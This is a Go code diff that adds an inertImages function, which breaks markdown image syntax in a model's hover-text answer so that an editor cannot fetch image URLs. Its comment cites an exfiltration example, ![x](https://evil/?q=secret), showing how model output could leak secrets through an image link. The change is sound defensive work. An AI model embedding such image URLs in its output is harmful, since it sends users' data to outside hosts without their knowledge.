@@ -300,7 +300,16 @@ func (r *turnRecord) hover() string {
 	if r.transcript != "" {
 		fmt.Fprintf(&b, "Transcript: %s\n", r.transcript)
 	}
-	return strings.TrimRight(b.String(), "\n") + "\n"
+	return inertImages(strings.TrimRight(b.String(), "\n") + "\n")
+}
+
+// inertImages puts a zero-width space between every "!" and "[" of s, so no markdown image
+// ("![alt](url)", "![alt][ref]") forms anywhere: the answer is the model's, and an editor that
+// showed its image would fetch the URL, sending out whatever words the model put in it
+// (![x](https://evil/?q=secret)). What would have been an image is a link to click; in code the
+// space is invisible. Nothing is parsed, so no markdown can hide an image from it.
+func inertImages(s string) string {
+	return strings.ReplaceAll(s, "![", "!\u200b[")
 }
 
 func (r *turnRecord) stateLineLocked() string {
